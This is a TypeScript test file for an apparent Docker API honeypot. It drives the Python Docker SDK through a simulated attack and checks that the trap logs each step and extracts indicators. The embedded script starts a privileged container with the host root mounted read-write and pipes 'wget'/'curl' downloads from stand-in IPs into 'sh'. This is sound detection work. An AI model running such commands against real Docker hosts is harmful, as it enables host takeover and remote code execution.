// The Python Docker SDK (docker-py), as attack scripts use it: pull, run detached with a host-root bind, wait,
// logs, exec into a decoy, list. It must proceed as against a real daemon; events must record each step.
import { execFile } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { labFromEnv } from '../../lab/index.js';
import { commands, indicators, startTestTrap, type TestTrap } from './helpers.js';

let t: TestTrap;
let t20: TestTrap;
beforeAll(async () => {
  t = await startTestTrap();
  t20 = await startTestTrap({ engine: { version: '20.10.24' }, decoys: { images: [{ ref: 'busybox:latest' }], containers: [] } });
});
afterAll(async () => {
  expect(t.warnings).toEqual([]);
  expect(t20.warnings).toEqual([]);
  await t.close();
  await t20.close();
});

const SCRIPT = `
import docker, json, sys
c = docker.DockerClient(base_url=sys.argv[1], version='auto', timeout=30)
out = {'ping': c.ping(), 'version': c.version()['Version']}
c.images.pull('alpine', tag='latest')
ctr = c.containers.run('alpine', ['sh', '-c', 'echo ok; wget -qO- http://192.0.2.77/p.sh | sh'], volumes={'/': {'bind': '/host', 'mode': 'rw'}},
                       privileged=True, detach=True, name='pysdk1')
out['wait'] = ctr.wait()
out['logs'] = ctr.logs().decode()
web = c.containers.get('web')
r = web.exec_run(['sh', '-c', 'id -u; curl -s http://198.51.100.99/k | sh'])
out['exec'] = [r.exit_code, r.output.decode()]
out['names'] = sorted(x.name for x in c.containers.list(all=True))
print(json.dumps(out))
`;

// What docker-py scripts read back, run against the lab's dockerd and the trap: the same answers must come out.
const COMPARE = `
import docker, json, sys, io, tarfile
c = docker.DockerClient(base_url=sys.argv[1], version='auto', timeout=30)
out = {}
def t(name, f):
    try: out[name] = f()
    except Exception as e: out[name] = 'EXC %s: %s' % (type(e).__name__, str(e).split(': ')[-1][:200])
ctr = c.containers.run('busybox', ['sleep', '300'], detach=True, name=sys.argv[2], network_mode='none')
ctr.reload()
a = ctr.attrs
t('attrs', lambda: [a['Config']['Hostname'] == ctr.id[:12], a['NetworkSettings']['IPAddress'], a['NetworkSettings']['Gateway'],
                    a['NetworkSettings']['MacAddress'], a['HostConfig']['LogConfig']['Type'], a['HostConfig']['IpcMode'], a['HostConfig']['ShmSize'],
                    sorted(a['NetworkSettings']['Networks']), a['HostConfig']['KernelMemory'], len(a['HostConfig']['MaskedPaths'])])
# demux: stdout and stderr apart, on every run (output must not ride in the 101's segment)
t('demux', lambda: [ctr.exec_run(['sh', '-c', 'echo out; echo err >&2'], demux=True).output for _ in range(6)])
t('exec', lambda: [(r.exit_code, r.output) for r in [ctr.exec_run(['sh', '-c', 'echo hi; exit 3']), ctr.exec_run('true'), ctr.exec_run(['sh', '-c', 'echo x > /tmp/f'])]])
t('exec_env', lambda: ctr.exec_run('env', environment={'X': '1'}).output.decode().splitlines()[2:])
t('update', lambda: [ctr.update(restart_policy={'Name': 'on-failure', 'MaximumRetryCount': 2}), ctr.reload(), ctr.attrs['HostConfig']['RestartPolicy']][::2])
t('kill', lambda: [ctr.kill(), ctr.wait(timeout=20)['StatusCode']][1])
t('remove', lambda: ctr.remove())
# (both streams: dockerd's log copiers race, so only the set of lines is fixed)
t('run_streams', lambda: [sorted(c.containers.run('busybox', ['sh', '-c', 'echo a; echo b >&2'], remove=True, network_mode='none', stdout=o, stderr=e).decode().splitlines())
                          for o, e in [(True, False), (False, True), (True, True)]])
print(json.dumps(out, sort_keys=True, default=lambda b: b.decode() if isinstance(b, bytes) else str(b)))
`;

function pyCompare(url: string, name: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile('python3', ['-c', COMPARE, url, name], { timeout: 120_000 }, (err, stdout, stderr) => resolve({ code: err ? 1 : 0, stdout, stderr }));
  });
}

function py(url: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile('python3', ['-c', SCRIPT, url], { timeout: 90_000 }, (err, stdout, stderr) =>
      resolve({ code: err ? 1 : 0, stdout, stderr }));
  });
}

describe('trap: Python Docker SDK', () => {
  it('runs a docker-py attack flow to completion', async () => {
    const r = await py(`tcp://127.0.0.1:${t.port}`);
    expect(r.stderr).toBe('');
    const out = JSON.parse(r.stdout) as { ping: boolean; version: string; wait: { StatusCode: number }; logs: string; exec: [number, string]; names: string[] };
    expect(out).toMatchObject({ ping: true, version: '24.0.7', wait: { StatusCode: 0 }, logs: 'ok\n' });
    expect(out.exec[0]).toBe(0);
    expect(out.names).toEqual(['cache', 'db', 'pysdk1', 'web']);
    expect(t.eventsOf('trap.container.create_attempted').at(-1)).toMatchObject({ name: 'pysdk1', binds: ['/:/host:rw'], privileged: true, outcome: 'created' });
    expect(commands(t)).toEqual(expect.arrayContaining(['wget -qO- http://192.0.2.77/p.sh', 'curl -s http://198.51.100.99/k']));
    expect(indicators(t, 'ipv4')).toEqual(expect.arrayContaining(['192.0.2.77', '198.51.100.99']));
  });
});

describe('trap vs real dockerd 20.10: docker-py reads the same answers', () => {
  it('attrs, exec_run (demux, exit codes, env), update, kill/wait and run with each stream', async () => {
    const name = `pcl-trapbv-py-${process.pid}`;
    const [lab, trap] = await Promise.all([pyCompare(`unix://${labFromEnv().socketPath}`, name), pyCompare(`tcp://127.0.0.1:${t20.port}`, name)]);
    expect(lab.stderr).toBe('');
    expect(trap.stderr).toBe('');
    // The lab's busybox rootfs has a shorter image PATH than a real image; the rest must match exactly.
    const fix = (s: string) => JSON.parse(s.replace('PATH=/usr/sbin:/usr/bin:/sbin:/bin', 'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin')) as Record<string, unknown>;
    const a = fix(lab.stdout);
    expect(a.demux).toEqual(Array(6).fill(['out\n', 'err\n']));
    expect(fix(trap.stdout)).toEqual(a);
  });
});
